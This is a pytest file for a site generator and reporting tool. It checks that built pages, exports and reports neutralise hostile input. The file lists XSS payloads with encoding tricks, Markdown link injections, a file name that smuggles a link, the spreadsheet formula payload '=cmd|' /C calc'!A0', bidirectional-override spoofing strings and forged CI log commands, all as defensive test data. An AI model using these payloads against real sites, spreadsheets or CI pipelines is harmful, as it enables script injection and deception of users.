"""No script runs from data: URLs in built pages, bidirectional controls, spreadsheet formulas, report lines.

One test per class of hostile value, each with several payloads. The
end-to-end test builds sites (acceptance); the others are fast.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from conftest import build_site, copy_shipped

from acia.site import sanitise

DANGEROUS = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "poster", "data"}


def _browser_view(value: str) -> str:
    """An attribute value as a browser reads its scheme: entities decoded, tabs/newlines removed, stripped, lowered.

    Written independently of ``acia.site.sanitise`` so that the test does not trust the code it checks.
    """
    decoded = html.unescape(html.unescape(value))
    decoded = re.sub(r"[\t\n\r]", "", decoded)
    return decoded.strip("".join(chr(code) for code in range(0x21))).lower()


class _Urls(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in URL_ATTRIBUTES and value is not None:
                for part in re.split(r"[\s,]+", value) if name == "srcset" else [value]:
                    self.urls.append((tag, name, part))

    handle_startendtag = handle_starttag


def _dangerous_urls(page: str) -> list[tuple[str, str, str]]:
    parser = _Urls()
    parser.feed(page)
    parser.close()
    return [url for url in parser.urls if _browser_view(url[2]).startswith(DANGEROUS)]


# Each of these is an unsafe URL attribute a browser would follow.
UNSAFE_TAGS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01\x02javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a/href='vbscript:msgbox(1)'>x</a>",
    '<A HREF="VBScript:msgbox(1)">x</A>',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="x.png" srcset="a.png 1x, data:image/svg+xml;base64,AAAA 2x">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button></form>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<video poster="javascript:alert(1)"></video>',
    '<object data="data:text/html,x"></object>',
    '<a\nhref\n=\n"javascript:alert(1)"\n>x</a>',
]

SAFE_TAGS = [
    '<a href="https://example.org/a?b=1&amp;c=2">x</a>',
    '<a href="http://example.org/">x</a>',
    '<a href="mailto:contact@example.org">x</a>',
    '<a href="#section">x</a>',
    '<a href="../dossiers/og-2a-x/">x</a>',
    '<a href="dossiers/og-2a-x/livrables/fiche%20cadrage.pdf">x</a>',
    '<img src="assets/images/favicon.png" alt="">',
    '<a class="headerlink" href="#titre" title="Permanent link">¶</a>',
]


@pytest.mark.parametrize("tag", UNSAFE_TAGS)
def test_unsafe_url_attributes_are_dropped(tag):
    page = f"<!doctype html>\n<html><body>\n<p>avant</p>{tag}<p>après</p>\n</body></html>\n"
    cleaned = sanitise.sanitise_html(page)
    assert _dangerous_urls(page), "the payload is meant to be dangerous"
    assert not _dangerous_urls(cleaned)
    assert "<p>avant</p>" in cleaned and "<p>après</p>\n</body></html>\n" in cleaned


def test_safe_urls_and_the_rest_of_the_page_are_left_byte_for_byte():
    page = "<!doctype html>\r\n<html><head><script>var a = '<a href=\"javascript:x\">';</script></head><body>\n" + "\n".join(SAFE_TAGS) + "\n</body></html>\n"
    assert sanitise.sanitise_html(page) == page


def test_only_the_faulty_attribute_is_dropped_and_output_is_deterministic():
    page = '<p>x</p>\n  <a class="lien" href="javascript:alert(1)" title="a &amp; b">x</a> <img alt="i" src="data:x,y"/>'
    cleaned = sanitise.sanitise_html(page)
    assert cleaned == '<p>x</p>\n  <a class="lien" title="a &amp; b">x</a> <img alt="i" />'
    assert sanitise.sanitise_html(cleaned) == cleaned


def test_refresh_to_a_script_is_dropped():
    cleaned = sanitise.sanitise_html('<meta http-equiv="refresh" content="0; URL=\'javascript:alert(1)\'">')
    assert "javascript" not in cleaned
    kept = '<meta http-equiv="refresh" content="0; url=https://example.org/">'
    assert sanitise.sanitise_html(kept) == kept


STRUCTURE = "og-2a-fondation-u-sole"
MINUTES_PAYLOAD = """

Lien direct : [direct](javascript:alert(11)) et [encodé](&#106;avascript:alert(12)) et [casse]( JaVaScRiPt:alert(13)).

> Citation avec une référence : [cité][ref-citation]
>
> [ref-citation]: javascript:alert(14)

- Élément de liste avec une référence : [listé][ref-liste]

    [ref-liste]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=

- [image](vbscript:msgbox(16)) et ![image](data:image/svg+xml,<svg onload=alert(17)>)

Lien automatique : <javascript:alert(18)> et <vbscript:msgbox(19)>

<a href="javascript:alert(20)">html brut</a> <img src="?x" srcset="data:x 1x"> <iframe src="javascript:alert(21)"></iframe>

[attribut](https://example.org){: href="javascript:alert(22)" }
"""


@pytest.mark.acceptance
def test_no_built_page_links_to_a_script_whatever_the_markdown_construct(tmp_path):
    root = copy_shipped(tmp_path)
    for minutes in (root / "data" / "suivi" / STRUCTURE / "comptes-rendus" / "copil-1.md", root / "data" / "suivi" / "collectif" / "comptes-rendus" / "temps-collectif-1.md"):
        minutes.write_text(minutes.read_text(encoding="utf-8") + MINUTES_PAYLOAD, encoding="utf-8")
    programme = root / "data" / "programme.yml"
    text = programme.read_text(encoding="utf-8")
    field = "    valeur_retenue: du 30/06/2023 au 10/07/2023\n"  # (« champ » must name data: ACIA409 refuses a link there)
    assert field in text
    programme.write_text(text.replace(field, '    valeur_retenue: "[où](javascript:alert(31)) <javascript:alert(32)> [r]: data:x"\n', 1), encoding="utf-8")
    # A deliverable file name that would close a Markdown link destination.
    name = "livrables/x) [piège](javascript:alert(41)) (y.md"
    (root / "data" / "suivi" / STRUCTURE / name).write_text("# Livrable\n\n[dedans](javascript:alert(42))\n", encoding="utf-8")
    deliverables = root / "data" / "suivi" / STRUCTURE / "livrables.yml"
    text = deliverables.read_text(encoding="utf-8")
    deliverables.write_text(text.replace("fichier: livrables/fiche-cadrage.md", f"fichier: {name!r}".replace("'", '"'), 1), encoding="utf-8")

    for audience in ("interne", f"structure:{STRUCTURE}", "public"):
        site = build_site(root, audience)
        pages = sorted(site.rglob("*.html"))
        assert pages
        found = {page.relative_to(site).as_posix(): _dangerous_urls(page.read_text(encoding="utf-8")) for page in pages}
        assert not {page: urls for page, urls in found.items() if urls}, audience
        errata = (site / "errata" / "index.html").read_text(encoding="utf-8")
        assert "alert(31)" in errata  # the value is shown as text
        if audience != "public":
            dossier = (site / "dossiers" / STRUCTURE / "index.html").read_text(encoding="utf-8")
            assert "x%29%20%5Bpi%C3%A8ge%5D%28javascript%3Aalert%2841%29%29%20%28y" in dossier
            minutes = (site / "dossiers" / STRUCTURE / "comptes-rendus" / "copil-1" / "index.html").read_text(encoding="utf-8")
            assert "html brut" in minutes and "alert(22)" in minutes


BIDI_PAYLOADS = [
    "Association\u202e lisula\u202c",  # right-to-left override, then pop
    "\u2067facture.exe\u2069 ok",  # right-to-left isolate
    "a\u202ab\u202bc\u202dd",  # embeddings, left-to-right override
    "\u2066x\u2068y\u2069",  # isolates
    "mark\u200e\u200f\u061c end",  # invisible direction marks
]


@pytest.mark.parametrize("value", BIDI_PAYLOADS)
def test_bidirectional_controls_never_reach_pages_or_documents(value):
    from acia.letters.documents import pandoc_text
    from acia.site import escape
    from acia.templating import BIDI_CONTROLS

    outputs = [escape.markdown_text(value), escape.html_text(value), str(escape.user_markdown(value)), str(escape.code(value)), pandoc_text(value)]
    for output in outputs:
        assert not BIDI_CONTROLS.search(output), output
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", output)
    assert "lisula" in escape.markdown_text(BIDI_PAYLOADS[0])


def test_code_filter_shows_markdown_as_text():
    import markdown

    from acia.site import escape

    for value in ("[x](javascript:alert(1))", "[r]: data:x", "![i](vbscript:x)", "<javascript:alert(1)>", "<a href='javascript:x'>a</a>", "a | b **c**"):
        rendered = markdown.markdown(f"- **Où** : {escape.code(value)}", extensions=["tables", "attr_list", "md_in_html"])
        assert "<a" not in rendered and "<img" not in rendered and "<strong>c" not in rendered, rendered
        assert html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip() == f"Où : {value}"


FORMULAS = ["=1+1", '=HYPERLINK("https://exemple.invalid/?v="&A1;"clic")', "+33 6 00 00 00 00", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_csv_cells_never_start_a_formula():
    from acia.exports import matrix

    header = ["Candidature", "=titre piégé"]
    rows = [[value, value] for value in FORMULAS] + [["ok", -2.5], ["négatif", -3], ["texte normal", "Association U Ponte"]]
    import csv
    import io

    read = list(csv.reader(io.StringIO(matrix.rows_as_csv(header, rows), newline=""), delimiter=";"))
    assert read[0] == ["Candidature", "'=titre piégé"]
    for line, value in zip(read[1:], FORMULAS, strict=False):
        assert line == ["'" + value.replace("\r", "\n")] * 2  # a lone CR would split the row: it becomes a line break
    assert read[-3:] == [["ok", "-2,50"], ["négatif", "-3"], ["texte normal", "Association U Ponte"]]  # numbers stay numbers


def test_ods_and_xlsx_write_text_cells_as_strings_never_formulas(tmp_path):
    import zipfile
    from datetime import UTC, datetime

    import openpyxl

    from acia.exports import spreadsheet

    rows = [[value, 1.5] for value in FORMULAS]
    spreadsheet.write_xlsx(tmp_path / "m.xlsx", "Matrice", ["Texte", "Nombre"], rows, "Titre", datetime(2023, 8, 1, tzinfo=UTC))
    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx").active
    cells = [row for row in sheet.iter_rows() if row[1].value == 1.5]
    assert len(cells) == len(FORMULAS) and cells[0][0].value == FORMULAS[0]
    assert all(text.data_type == "s" and number.data_type == "n" for text, number in cells)
    spreadsheet.write_ods(tmp_path / "m.ods", "Matrice", ["Texte", "Nombre"], rows, "Titre", datetime(2023, 8, 1, tzinfo=UTC))
    content = zipfile.ZipFile(tmp_path / "m.ods").read("content.xml").decode("utf-8")
    assert "table:formula" not in content and 'office:value-type="float"' in content
    assert content.count('office:value-type="string"') >= len(FORMULAS)


FORGERIES = [
    "valeur\n::error file=README.md,line=1::faux",
    "valeur\r::warning::faux",
    "valeur\r\n::add-mask::secret",
    "valeur\x1b[2K\x1b[1A::error::effacé",  # terminal escape sequences
    "valeur\x85::error::NEL",  # C1 next line
    "valeur\u2028::error::séparateur",
    "valeur\u202e::error::inversé",
    "valeur\x0b\x0c::notice::faux",
]


def _hostile_report(value: str):
    from acia.findings import Finding, Report

    finding = Finding(file=f"data/applications/{value}.yml", line=1, column=1, rule="ACIA102", severity="erreur", field=value, message=f"clé inconnue « {value} »", hint=value)
    return Report(findings=[finding], files=1, rules_skipped=[f"data/{value}.yml"])


@pytest.mark.parametrize("value", FORGERIES)
def test_text_report_prints_no_control_character_from_values(value):
    from acia import reporters

    for colour in (False, True):
        output = reporters.text(_hostile_report(value), lambda path: path, colour=colour)
        without_our_colours = re.sub(r"\x1b\[(?:\d+)m", "", output)
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", without_our_colours), repr(output)
        assert not any(line.lstrip("\x1b[2m").startswith("::") for line in output.splitlines())
        assert len(output.splitlines()) == 4  # finding, hint, skipped rules, verdict
    assert "valeur\\n::error" in reporters.text(_hostile_report(FORGERIES[0]), lambda path: path)  # shown, escaped


@pytest.mark.parametrize("value", FORGERIES + ["a,b:c%0Ad 100%"])
def test_github_report_escapes_data_and_properties(value):
    from acia import reporters

    output = reporters.github(_hostile_report(value), lambda path: path)
    assert "\r" not in output
    lines = output.rstrip("\n").split("\n")  # the runner reads lines ended by LF, CR or CRLF
    assert len(lines) == 2 and lines[0].startswith("::error file=") and not lines[1].startswith("::")
    properties, _, data = lines[0][len("::error ") :].partition("::")
    file_value = properties.split(",")[0].removeprefix("file=")
    assert ":" not in file_value and "," not in file_value  # both escaped in a property
    assert "%25" in data or "%" not in value
